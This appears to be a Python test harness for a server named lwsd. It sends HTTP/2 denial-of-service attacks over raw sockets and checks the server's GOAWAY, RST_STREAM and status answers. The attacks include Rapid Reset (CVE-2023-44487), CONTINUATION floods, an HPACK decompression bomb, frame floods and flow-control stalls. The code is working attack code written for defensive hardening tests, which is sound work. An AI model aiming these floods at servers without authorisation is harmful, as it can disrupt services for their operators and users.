#!/usr/bin/env python3
"""HTTP/2 attacks on a running server, one per subcommand (issue 11 item 5).

Each attack speaks HTTP/2 itself over a raw socket (h2c with prior knowledge, or with
--tls: TLS with ALPN h2, certificate not verified), frames made with `hyperframe` and
header blocks with `hpack` (or by hand where the attack is the encoding), prints what the
server answered (GOAWAY code and debug data, RST_STREAM codes, statuses, how long it
took) and exits 0 only if the answer is the one lwsd's HTTP/2 contract asks for
(RFC 9113 plus the protections of issue 11), 1 if the server answered otherwise, 2 if the
attack could not be run (no connection, no h2 in ALPN, bad arguments).

Attacks (expected answer):
  rapid-reset          HEADERS + RST_STREAM(CANCEL) pairs, 20,000 streams (CVE-2023-44487):
                       GOAWAY ENHANCE_YOUR_CALM, then close
  continuation-flood   HEADERS then up to 100,000 small CONTINUATION frames, never
                       END_HEADERS (the 2024 CONTINUATION CVEs): GOAWAY ENHANCE_YOUR_CALM
  continuation-empty   the same with empty CONTINUATION frames: GOAWAY ENHANCE_YOUR_CALM
  continuation-big     16 KiB CONTINUATION frames of header fields, up to 64 MiB:
                       GOAWAY ENHANCE_YOUR_CALM (the block passed 64 KiB)
  hpack-bomb           a small block that decodes huge (one 4,000-byte field indexed, then
                       referenced 12,000 times: 16 KB encoded, 48 MB decoded): 431 on the
                       stream, and the connection serves the next request
  big-headers          1,200 distinct literal fields (40 KB encoded, 74 KB as RFC 9113
                       6.5.2 counts): 431 on the stream, the next request is served
  ping-flood           100,000 PINGs written without reading: GOAWAY ENHANCE_YOUR_CALM
  settings-flood       100,000 SETTINGS frames without reading: GOAWAY ENHANCE_YOUR_CALM
  empty-data-flood     a POST, then 50,000 empty DATA frames: GOAWAY ENHANCE_YOUR_CALM
  window-update-flood  100,000 WINDOW_UPDATE(+1) on stream 0: GOAWAY ENHANCE_YOUR_CALM
  priority-flood       100,000 PRIORITY frames: GOAWAY ENHANCE_YOUR_CALM
  window-stall-stream  INITIAL_WINDOW_SIZE 0, GET the big file, never a WINDOW_UPDATE:
                       RST_STREAM CANCEL after about --send-timeout seconds, connection
                       alive (a PING is answered)
  window-stall-conn    stream windows huge, the connection window (65,535) never reopened:
                       GOAWAY NO_ERROR and close after about --send-timeout seconds
  too-many-streams     MAX_CONCURRENT_STREAMS + 1 GETs of the big file at once (none can
                       finish: the windows are never opened): RST_STREAM REFUSED_STREAM on
                       the last one only, connection alive
  stream-id-reuse      HEADERS again on stream 1 once it is closed both ways (END_STREAM
                       sent and received): GOAWAY PROTOCOL_ERROR or STREAM_CLOSED (5.1.1,
                       5.1: a connection error, either way)
  stream-id-lower      HEADERS on stream 3 after stream 5: GOAWAY PROTOCOL_ERROR (5.1.1)
  state-violations     other frames in the wrong stream state, each on its own connection:
                       GOAWAY PROTOCOL_ERROR / STREAM_CLOSED / COMPRESSION_ERROR

Every attack is bounded: a flood stops writing 4 s before --deadline (default 10 s) and
waits at most 3 s for the answer. Run by tests/h2_hostile.rs; against another server
give its paths with --big/--small/--post.

Usage: attacks.py ATTACK --port P [--host H] [--tls] [--big PATH] [--small PATH]
                  [--post PATH] [--send-timeout SECS] [--deadline SECS]
"""
import argparse
import socket
import ssl
import struct
import sys
import time

import hpack
from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# RFC 9113 section 7.
CODES = [
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
    "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
    "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
]
NO_ERROR, PROTOCOL_ERROR, STREAM_CLOSED, REFUSED_STREAM, CANCEL = 0, 1, 5, 7, 8
COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 9, 11
# RFC 9113 section 6.5.2.
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 3, 4
MAX_FRAME = 16384


def code_name(c):
    return f"{CODES[c] if c < len(CODES) else 'unknown'} (0x{c:x})"


def raw_frame(ftype, flags, sid, payload=b""):
    """A frame hyperframe would refuse to build (a stream id where the type forbids one,
    ...): the 9-byte header of RFC 9113 section 4.1 and the payload."""
    head = struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid)
    return head + payload


def literal(name, value, add=False):
    """One field line as a literal with a new name, no Huffman (RFC 7541 section 6.2):
    with incremental indexing (`add`: into the dynamic table) or without indexing."""
    out = bytearray([0x40 if add else 0x00]) + encode_integer(len(name), 7) + name
    out += encode_integer(len(value), 7) + value
    return bytes(out)


def indexed(i):
    """An indexed field line (RFC 7541 section 6.1)."""
    b = encode_integer(i, 7)
    b[0] |= 0x80
    return bytes(b)


def header_frames(sid, block, end_stream):
    """HEADERS (+ CONTINUATION) frames carrying `block`, each at most MAX_FRAME."""
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for i, c in enumerate(chunks):
        flags = []
        if i == len(chunks) - 1:
            flags.append("END_HEADERS")
        if i == 0:
            if end_stream:
                flags.append("END_STREAM")
            out.append(HeadersFrame(sid, c, flags=flags).serialize())
        else:
            out.append(ContinuationFrame(sid, c, flags=flags).serialize())
    return b"".join(out)


class Unusable(Exception):
    """The attack could not be run (no connection, no h2): exit status 2."""


class Conn:
    """One HTTP/2 client connection: preface and SETTINGS sent, the server's SETTINGS
    acknowledged; what the server sends is recorded as it is read."""

    def __init__(self, args, settings=None, auto_window=True):
        self.args = args
        self.t0 = time.monotonic()
        sock = socket.create_connection((args.host, args.port), timeout=5)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if args.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="localhost")
            if sock.selected_alpn_protocol() != "h2":
                raise Unusable(f"ALPN chose {sock.selected_alpn_protocol()!r}, not h2")
        self.sock = sock
        self.scheme = "https" if args.tls else "http"
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 24
        self.auto_window = auto_window
        self.buf = bytearray()
        self.closed = None  # why, once reading found the connection closed or reset
        self.write_failed = None  # why, once a write failed (the server closed or reset)
        self.closed_at = None
        self.goaway = None  # (code, last stream id, debug data, seconds)
        self.rst = {}  # stream id -> (code, seconds)
        self.status = {}  # stream id -> :status
        self.ended = set()  # streams the server ended (END_STREAM)
        self.data = {}  # stream id -> DATA payload bytes
        self.reset_by_us = set()
        self.server_settings = {}
        self.settings_acks = 0
        self.ping_acks = 0
        self.frames_in = 0
        self.oddities = []  # what the server sent that RFC 9113 does not allow
        self.block = None  # (stream id, bytes, end_stream) while a field block continues
        self.send(PREFACE + SettingsFrame(0, settings or {}).serialize())
        self.wait(lambda: self.server_settings_seen, 5)
        if not self.server_settings_seen:
            raise Unusable(f"no SETTINGS from the server ({self.closed or 'timeout'})")

    server_settings_seen = False

    def now(self):
        return time.monotonic() - self.t0

    # ---- writing ----

    def send(self, data, timeout=5.0):
        """Writes all of `data`; False if the connection is gone or the write stalled
        for `timeout` (the server stopped reading)."""
        if self.closed or self.write_failed:
            return False
        try:
            self.sock.settimeout(timeout)
            self.sock.sendall(data)
            return True
        except (socket.timeout, ssl.SSLWantWriteError):
            return False
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
            # What the server sent before it closed may still be waiting to be read.
            self.write_failed = f"{e.__class__.__name__} at {self.now():.2f} s"
            return False

    def request_block(self, path, method="GET", extra=()):
        hdrs = [(":method", method), (":scheme", self.scheme),
                (":authority", f"{self.args.host}:{self.args.port}"), (":path", path)]
        return self.enc.encode(hdrs + list(extra))

    def request(self, sid, path, method="GET", end_stream=True, extra=()):
        return self.send(header_frames(sid, self.request_block(path, method, extra), end_stream))

    def ping(self, timeout=3.0):
        """A PING round trip: True if its ACK came."""
        before = self.ping_acks
        self.send(PingFrame(0, b"alive?!!").serialize())
        return self.wait(lambda: self.ping_acks > before, timeout)

    def flood(self, unit, count, batch, deadline):
        """Writes `unit` `count` times without reading, `batch` at a time, until done,
        the connection is gone, a write stalls, or `deadline` (seconds since start);
        returns how many were written."""
        chunk = unit * batch
        sent = 0
        while sent < count and self.now() < deadline:
            n = min(batch, count - sent)
            left = max(0.1, deadline - self.now())
            if not self.send(chunk if n == batch else unit * n, timeout=left):
                break
            sent += n
        return sent

    # ---- reading ----

    def _close(self, why):
        if not self.closed:
            self.closed, self.closed_at = why, self.now()

    def pump(self, timeout):
        """Reads what arrives within `timeout` (one read) and handles its frames."""
        if self.closed:
            return
        try:
            self.sock.settimeout(max(timeout, 0.001))
            got = self.sock.recv(1 << 16)
        except (socket.timeout, ssl.SSLWantReadError):
            return
        except ConnectionResetError:
            self._close("reset (RST)")
            return
        except (ssl.SSLError, OSError) as e:
            self._close(f"read failed: {e.__class__.__name__}: {e}")
            return
        if not got:
            self._close("closed (FIN)")
            return
        self.buf += got
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            body = bytes(self.buf[9:9 + length])
            del self.buf[:9 + length]
            f.parse_body(memoryview(body))
            self.frames_in += 1
            self._on_frame(f)

    def wait(self, cond, timeout):
        """Reads until `cond()` holds, the connection closes, or `timeout`; cond()."""
        end = time.monotonic() + timeout
        while not cond() and not self.closed and time.monotonic() < end:
            self.pump(min(0.2, end - time.monotonic()))
        return cond()

    def wait_close(self, timeout):
        return self.wait(lambda: self.closed is not None, timeout)

    def _on_frame(self, f):
        if self.block is not None and not isinstance(f, ContinuationFrame):
            self.oddities.append(f"{f.__class__.__name__} inside a field block")
        if isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                self.settings_acks += 1
            else:
                self.server_settings.update(f.settings)
                self.server_settings_seen = True
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, PingFrame):
            if "ACK" in f.flags:
                self.ping_acks += 1
            else:
                self.send(PingFrame(0, f.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(f, HeadersFrame):
            self.block = (f.stream_id, bytearray(f.data), "END_STREAM" in f.flags)
            if "END_HEADERS" in f.flags:
                self._end_block()
        elif isinstance(f, ContinuationFrame):
            if self.block is None or self.block[0] != f.stream_id:
                self.oddities.append(f"CONTINUATION on stream {f.stream_id} without HEADERS")
                return
            self.block[1].extend(f.data)
            if "END_HEADERS" in f.flags:
                self._end_block()
        elif isinstance(f, DataFrame):
            sid = f.stream_id
            self.data[sid] = self.data.get(sid, 0) + len(f.data)
            if "END_STREAM" in f.flags:
                self.ended.add(sid)
            n = f.flow_controlled_length
            if self.auto_window and n:
                out = WindowUpdateFrame(0, window_increment=n).serialize()
                if sid not in self.reset_by_us and sid not in self.ended:
                    out += WindowUpdateFrame(sid, window_increment=n).serialize()
                self.send(out)
        elif isinstance(f, GoAwayFrame):
            if self.goaway is None:
                dbg = bytes(f.additional_data)
                self.goaway = (f.error_code, f.last_stream_id, dbg, self.now())
        elif isinstance(f, RstStreamFrame):
            self.rst.setdefault(f.stream_id, (f.error_code, self.now()))

    def _end_block(self):
        sid, block, end_stream = self.block
        self.block = None
        try:
            hdrs = self.dec.decode(bytes(block))
        except hpack.HPACKError as e:
            self.oddities.append(f"undecodable field block on stream {sid}: {e}")
            return
        for k, v in hdrs:
            if k == ":status":
                self.status.setdefault(sid, int(v))
        if end_stream:
            self.ended.add(sid)

    # ---- reporting ----

    def describe(self):
        parts = []
        if self.goaway:
            c, last, dbg, t = self.goaway
            dbg = dbg.decode("utf-8", "replace")
            parts.append(f"GOAWAY {code_name(c)} last_stream_id={last} debug={dbg!r} at {t:.2f} s")
        else:
            parts.append("no GOAWAY")
        if self.rst:
            counts = {}
            for c, _ in self.rst.values():
                counts[c] = counts.get(c, 0) + 1
            each = (f"{code_name(c)} x{n}" for c, n in sorted(counts.items()))
            parts.append("RST_STREAM " + ", ".join(each))
        if self.closed:
            parts.append(f"connection {self.closed} at {self.closed_at:.2f} s")
        else:
            parts.append("connection open")
        if self.write_failed:
            parts.append(f"a write failed: {self.write_failed}")
        parts.append(f"{self.frames_in} frames in")
        if self.oddities:
            parts.append("server oddities: " + "; ".join(self.oddities[:5]))
        return "; ".join(parts)


class Verdict:
    def __init__(self, name):
        self.name = name
        self.failures = []

    def check(self, ok, what):
        print(f"  {'ok  ' if ok else 'FAIL'} {what}")
        if not ok:
            self.failures.append(what)
        return ok

    def finish(self):
        print(f"{self.name}: " + ("FAIL: " + "; ".join(self.failures) if self.failures else "ok"))
        return 0 if not self.failures else 1


def expect_goaway(v, c, codes, wait=3.0, close_within=3.0):
    """The answer (within `wait` seconds) is a GOAWAY with one of `codes`, then the
    connection closes (RFC 9113 5.4.1: after a GOAWAY for an error the endpoint MUST
    close the connection; lwsd closes after a GOAWAY NO_ERROR for a stall too)."""
    c.wait(lambda: c.goaway is not None, wait)
    print(f"  answer: {c.describe()}")
    got = c.goaway[0] if c.goaway else None
    want = " or ".join(code_name(x) for x in codes)
    got_name = code_name(got) if got is not None else "none"
    if not v.check(got in codes, f"GOAWAY {want} (got {got_name})"):
        return
    c.wait_close(close_within)
    v.check(c.closed is not None, f"connection closed after the GOAWAY (within {close_within} s)")


# ---- attacks ----


def write_until(args):
    """When a flood stops writing: the answer then gets a few seconds before --deadline."""
    return max(1.0, args.deadline - 4)


def rapid_reset(args):
    v = Verdict("rapid-reset")
    c = Conn(args)
    sid, pairs, total = 1, 0, 20000
    while pairs < total and c.now() < write_until(args) and not c.goaway and not c.closed:
        out = bytearray()
        for _ in range(100):
            block = c.request_block(args.big)
            out += HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
            out += RstStreamFrame(sid, error_code=CANCEL).serialize()
            c.reset_by_us.add(sid)
            sid += 2
        if not c.send(bytes(out)):
            break
        pairs += 100
        c.pump(0)
    print(f"  sent {pairs} HEADERS + RST_STREAM(CANCEL) pairs (GET {args.big}) "
          f"in {c.now():.2f} s; {len(c.status)} responses begun")
    expect_goaway(v, c, [ENHANCE_YOUR_CALM])
    return v.finish()


def continuation(args, kind):
    v = Verdict(f"continuation-{kind}")
    c = Conn(args)
    first = c.request_block(args.small)
    c.send(HeadersFrame(1, first, flags=["END_STREAM"]).serialize())
    if kind == "flood":
        unit = ContinuationFrame(1, literal(b"x-flood", b"0123456789")).serialize()
        count, batch = 100000, 1000
    elif kind == "empty":
        unit = ContinuationFrame(1, b"").serialize()
        count, batch = 100000, 1000
    else:
        fields = b""
        i = 0
        while len(fields) < MAX_FRAME - 40:
            fields += literal(b"x-big-%05d" % i, b"v" * 20)
            i += 1
        unit = ContinuationFrame(1, fields[:MAX_FRAME]).serialize()
        count, batch = 4096, 8  # 64 MiB: a server that kept it would show in its memory
    sent = c.flood(unit, count, batch, write_until(args))
    print(f"  sent HEADERS + {sent} CONTINUATION frames of {len(unit) - 9} bytes, "
          f"no END_HEADERS, in {c.now():.2f} s")
    expect_goaway(v, c, [ENHANCE_YOUR_CALM])
    return v.finish()


def oversized(args, kind):
    """An oversized header list on stream 1 (431 expected), then a normal GET on stream 3."""
    v = Verdict(kind)
    c = Conn(args)
    block = c.request_block(args.small)
    if kind == "hpack-bomb":
        name, value = b"x-bomb", b"b" * 4000
        refs = 12000
        # One field indexed (RFC 7541 6.2.1; it takes 4,038 of the table's 4,096 octets),
        # then referenced `refs` times: each reference is one octet and decodes to 4,038
        # octets as RFC 9113 6.5.2 counts.
        block += literal(name, value, add=True) + indexed(62) * refs
        # The server must have added the field to its table while decoding (RFC 7541
        # 2.3.2), so the encoder's copy adds it too.
        c.enc.header_table.add(name, value)
        decoded = (len(name) + len(value) + 32) * (refs + 1)
    else:
        n = 1200
        block += b"".join(literal(b"x-pad-%04d" % i, b"%020d" % i) for i in range(n))
        decoded = n * (10 + 20 + 32)
    print(f"  request on stream 1: {len(block)} bytes encoded, "
          f"{decoded} as RFC 9113 6.5.2 counts")
    c.send(header_frames(1, block, True))
    c.wait(lambda: 1 in c.ended or 1 in c.rst or c.goaway, 5)
    print(f"  stream 1: status {c.status.get(1)}, ended {1 in c.ended}, rst {c.rst.get(1)}")
    v.check(c.status.get(1) == 431 and 1 in c.ended, "stream 1 answered 431 and ended")
    c.request(3, args.small)
    c.wait(lambda: 3 in c.ended or c.goaway, 5)
    print(f"  stream 3 (GET {args.small}): status {c.status.get(3)}, ended {3 in c.ended}")
    print(f"  answer: {c.describe()}")
    v.check(c.status.get(3) == 200 and 3 in c.ended,
            "the next request on the connection is served (200)")
    v.check(c.goaway is None and not c.closed, "no GOAWAY, connection open")
    return v.finish()


def frame_flood(args, kind):
    v = Verdict(f"{kind}-flood")
    c = Conn(args)
    per_unit = 1
    if kind == "ping":
        unit, count, what = PingFrame(0, b"12345678").serialize(), 100000, "PING"
    elif kind == "settings":
        unit = SettingsFrame(0, {SETTINGS_MAX_CONCURRENT_STREAMS: 100}).serialize()
        count, what = 100000, "SETTINGS(MAX_CONCURRENT_STREAMS=100)"
    elif kind == "window-update":
        unit = WindowUpdateFrame(0, window_increment=1).serialize()
        count, what = 100000, "WINDOW_UPDATE(stream 0, +1)"
    elif kind == "priority":
        # On the idle streams 1, 3, ..., 1999 by turns, each depending on stream 0.
        unit = b"".join(PriorityFrame(s, depends_on=0, stream_weight=15).serialize()
                        for s in range(1, 2000, 2))
        per_unit, count, what = 1000, 100, "PRIORITY on idle streams"
    else:
        # A POST whose body never ends; each empty DATA frame does no work.
        c.request(1, args.post, "POST", end_stream=False,
                  extra=[("content-type", "application/x-www-form-urlencoded")])
        unit, count = DataFrame(1, b"").serialize(), 50000
        what = f"empty DATA on a POST {args.post}"
    sent = c.flood(unit, count, max(1, 1000 // per_unit), write_until(args))
    print(f"  wrote {sent * per_unit} x {what} without reading, in {c.now():.2f} s")
    expect_goaway(v, c, [ENHANCE_YOUR_CALM])
    if kind in ("ping", "settings"):
        print(f"  acks read: {c.ping_acks} PING, {c.settings_acks} SETTINGS")
    return v.finish()


def window_stall(args, kind):
    v = Verdict(f"window-stall-{kind}")
    st = args.send_timeout
    if kind == "stream":
        c = Conn(args, {SETTINGS_INITIAL_WINDOW_SIZE: 0}, auto_window=False)
    else:
        c = Conn(args, {SETTINGS_INITIAL_WINDOW_SIZE: (1 << 31) - 1}, auto_window=False)
    t = c.now()
    c.request(1, args.big)
    window = "stream window 0" if kind == "stream" else "connection window 65,535"
    print(f"  GET {args.big}, {window}, never a WINDOW_UPDATE; send timeout {st} s")
    if kind == "stream":
        c.wait(lambda: 1 in c.rst or c.goaway, st + 4)
        took = c.rst[1][1] - t if 1 in c.rst else None
        rst = f"{code_name(c.rst[1][0])} after {took:.2f} s" if 1 in c.rst else "none"
        print(f"  stream 1: status {c.status.get(1)}, {c.data.get(1, 0)} DATA bytes, "
              f"RST_STREAM {rst}")
        v.check(1 in c.rst and c.rst[1][0] == CANCEL, "RST_STREAM CANCEL on stream 1")
        if took is not None:
            v.check(st - 0.5 <= took <= st + 4, f"after about the send timeout ({st} s)")
        alive = c.ping()
        print(f"  answer: {c.describe()}")
        v.check(alive and c.goaway is None, "the connection stays (a PING is answered, no GOAWAY)")
    else:
        c.wait(lambda: c.goaway is not None, st + 4)
        took = c.goaway[3] - t if c.goaway else None
        print(f"  stream 1: status {c.status.get(1)}, {c.data.get(1, 0)} DATA bytes, "
              "then the stall")
        expect_goaway(v, c, [NO_ERROR], wait=0, close_within=2.0)
        if took is not None:
            v.check(st - 0.5 <= took <= st + 4,
                    f"after about the send timeout ({st} s): {took:.2f} s after the GET")
    return v.finish()


def too_many_streams(args):
    v = Verdict("too-many-streams")
    c = Conn(args, auto_window=False)
    limit = c.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)
    print(f"  server MAX_CONCURRENT_STREAMS: {limit}")
    n = (limit if limit is not None else 128) + 1
    c.send(b"".join(header_frames(2 * i + 1, c.request_block(args.big), True) for i in range(n)))
    last = 2 * n - 1
    c.wait(lambda: last in c.rst or c.goaway, 3)
    c.wait(lambda: False, 0.5)  # any other reset that would follow
    print(f"  opened {n} streams at once (GET {args.big}, windows never opened); "
          f"{len(c.status)} responses begun")
    print(f"  answer: {c.describe()}")
    v.check(c.rst.get(last, (None,))[0] == REFUSED_STREAM,
            f"stream {last} (number {n}) refused: REFUSED_STREAM")
    others = {s: code_name(r[0]) for s, r in c.rst.items() if s != last}
    v.check(not others, f"no other stream reset ({others or 'none'})")
    v.check(c.ping() and c.goaway is None, "the connection stays (a PING is answered, no GOAWAY)")
    return v.finish()


def stream_id_reuse(args):
    """HEADERS on stream 1 after it closed with END_STREAM both ways: a new stream must
    take a higher identifier (RFC 9113 5.1.1: an unexpected identifier is a connection
    error PROTOCOL_ERROR), and a frame after END_STREAM both ways is a connection error
    STREAM_CLOSED (5.1, closed)."""
    v = Verdict("stream-id-reuse")
    c = Conn(args)
    c.request(1, args.small)
    c.wait(lambda: 1 in c.ended, 5)
    print(f"  GET on stream 1: status {c.status.get(1)}, ended {1 in c.ended}; "
          "then HEADERS on stream 1 again")
    v.check(1 in c.ended, "stream 1 answered in full first")
    c.request(1, args.small)
    expect_goaway(v, c, [PROTOCOL_ERROR, STREAM_CLOSED])
    return v.finish()


def stream_id_lower(args):
    """HEADERS on stream 3 after stream 5 was opened (RFC 9113 5.1.1): PROTOCOL_ERROR."""
    v = Verdict("stream-id-lower")
    c = Conn(args)
    c.request(5, args.big)
    c.request(3, args.small)
    print(f"  HEADERS on stream 5 (GET {args.big}, left open), then on stream 3")
    expect_goaway(v, c, [PROTOCOL_ERROR])
    return v.finish()


def state_violations(args):
    """Frames in the wrong state, each case on a fresh connection; the answer must be one
    of the case's: ("goaway", code) or ("rst", stream id, code)."""
    v = Verdict("state-violations")
    end = ["END_HEADERS", "END_STREAM"]

    def get(c, sid, path=args.small):
        return header_frames(sid, c.request_block(path), True)

    def unfinished_get(c):
        return HeadersFrame(1, c.request_block(args.small), flags=["END_STREAM"]).serialize()

    goaway = [("goaway", PROTOCOL_ERROR)]
    compression = [("goaway", COMPRESSION_ERROR)]
    # (name, rule, setup or None, the offending frames, the answers allowed)
    cases = [
        ("DATA on an idle stream", "RFC 9113 5.1 idle", None,
         lambda c: DataFrame(1, b"x", flags=["END_STREAM"]).serialize(), goaway),
        ("WINDOW_UPDATE on an idle stream", "RFC 9113 5.1 idle", None,
         lambda c: WindowUpdateFrame(1, window_increment=1).serialize(), goaway),
        ("RST_STREAM on an idle stream", "RFC 9113 5.1 idle", None,
         lambda c: RstStreamFrame(1, error_code=CANCEL).serialize(), goaway),
        ("HEADERS on an even (server) stream id", "RFC 9113 5.1.1", None,
         lambda c: get(c, 2), goaway),
        ("HEADERS on stream 0", "RFC 9113 6.2", None,
         lambda c: raw_frame(0x1, 0x5, 0, c.request_block(args.small)), goaway),
        ("SETTINGS on stream 1", "RFC 9113 6.5", None,
         lambda c: raw_frame(0x4, 0, 1), goaway),
        ("CONTINUATION without HEADERS", "RFC 9113 6.10", None,
         lambda c: ContinuationFrame(1, b"", flags=["END_HEADERS"]).serialize(), goaway),
        ("a PING inside a field block", "RFC 9113 6.10", None,
         lambda c: unfinished_get(c) + PingFrame(0, b"12345678").serialize(), goaway),
        ("CONTINUATION on another stream than its HEADERS", "RFC 9113 6.10", None,
         lambda c: unfinished_get(c) + ContinuationFrame(3, flags=["END_HEADERS"]).serialize(),
         goaway),
        ("DATA after END_STREAM (half-closed remote)", "RFC 9113 5.1 half-closed (remote)",
         lambda c: c.send(get(c, 1, args.big)),
         lambda c: DataFrame(1, b"x").serialize(),
         [("rst", 1, STREAM_CLOSED), ("goaway", STREAM_CLOSED)]),
        # A stream error (the RFC 7540 wording: "any frame other than PRIORITY after
        # receiving a RST_STREAM MUST [be treated] as a stream error of type
        # STREAM_CLOSED"), or a connection error for an identifier used again (5.1.1).
        ("HEADERS on a stream the client reset", "RFC 9113 5.1 closed",
         lambda c: c.send(get(c, 1, args.big) + RstStreamFrame(1, error_code=CANCEL).serialize()),
         lambda c: get(c, 1),
         [("rst", 1, STREAM_CLOSED), ("goaway", STREAM_CLOSED), ("goaway", PROTOCOL_ERROR)]),
        ("HPACK index 0", "RFC 7541 6.1", None,
         lambda c: HeadersFrame(1, indexed(0), flags=end).serialize(), compression),
        ("HPACK index past both tables", "RFC 7541 2.3.3", None,
         lambda c: HeadersFrame(1, indexed(200), flags=end).serialize(), compression),
        # A dynamic table size update to 16,384 (001 11111, then 16,353 in 7-bit groups).
        ("HPACK table size above SETTINGS_HEADER_TABLE_SIZE", "RFC 7541 6.3", None,
         lambda c: HeadersFrame(1, b"\x3f\xe1\x7f" + c.request_block(args.small),
                                flags=end).serialize(), compression),
    ]
    for name, rule, setup, frames, allowed in cases:
        print(f"  case {name!r} ({rule}):")
        c = Conn(args)
        if setup:
            setup(c)
            c.wait(lambda: False, 0.2)
        c.send(frames(c))
        c.wait(lambda: c.goaway or any(a[0] == "rst" and a[1] in c.rst for a in allowed), 3)
        if c.goaway:
            c.wait_close(3)
        got = [("goaway", c.goaway[0])] if c.goaway else []
        got += [("rst", s, r[0]) for s, r in c.rst.items()]
        print(f"    answer: {c.describe()}")
        ok = any(a in got for a in allowed)
        want = " or ".join(f"GOAWAY {code_name(a[1])}" if a[0] == "goaway"
                           else f"RST_STREAM {code_name(a[2])}" for a in allowed)
        v.check(ok, f"{name}: {want}")
        if ok and c.goaway:
            v.check(c.closed is not None, f"{name}: connection closed after the GOAWAY")
    return v.finish()


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": lambda a: continuation(a, "flood"),
    "continuation-empty": lambda a: continuation(a, "empty"),
    "continuation-big": lambda a: continuation(a, "big"),
    "hpack-bomb": lambda a: oversized(a, "hpack-bomb"),
    "big-headers": lambda a: oversized(a, "big-headers"),
    "ping-flood": lambda a: frame_flood(a, "ping"),
    "settings-flood": lambda a: frame_flood(a, "settings"),
    "empty-data-flood": lambda a: frame_flood(a, "empty-data"),
    "window-update-flood": lambda a: frame_flood(a, "window-update"),
    "priority-flood": lambda a: frame_flood(a, "priority"),
    "window-stall-stream": lambda a: window_stall(a, "stream"),
    "window-stall-conn": lambda a: window_stall(a, "conn"),
    "too-many-streams": too_many_streams,
    "stream-id-reuse": stream_id_reuse,
    "stream-id-lower": stream_id_lower,
    "state-violations": state_violations,
}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true", help="TLS, ALPN h2, certificate not verified")
    p.add_argument("--big", default="/big.bin", help="a file of a few MiB")
    p.add_argument("--small", default="/small.txt", help="a small file")
    p.add_argument("--post", default="/formtest", help="a path that takes a POST body")
    p.add_argument("--send-timeout", type=float, default=2.0, help="the server's send timeout")
    p.add_argument("--deadline", type=float, default=10.0, help="stop writing after SECS")
    args = p.parse_args()
    print(f"{args.attack} on {args.host}:{args.port} ({'h2 over TLS' if args.tls else 'h2c'})")
    try:
        sys.exit(ATTACKS[args.attack](args))
    except (Unusable, ConnectionError, socket.timeout, ssl.SSLError) as e:
        print(f"error: {e.__class__.__name__}: {e}")
        sys.exit(2)


if __name__ == "__main__":
    main()
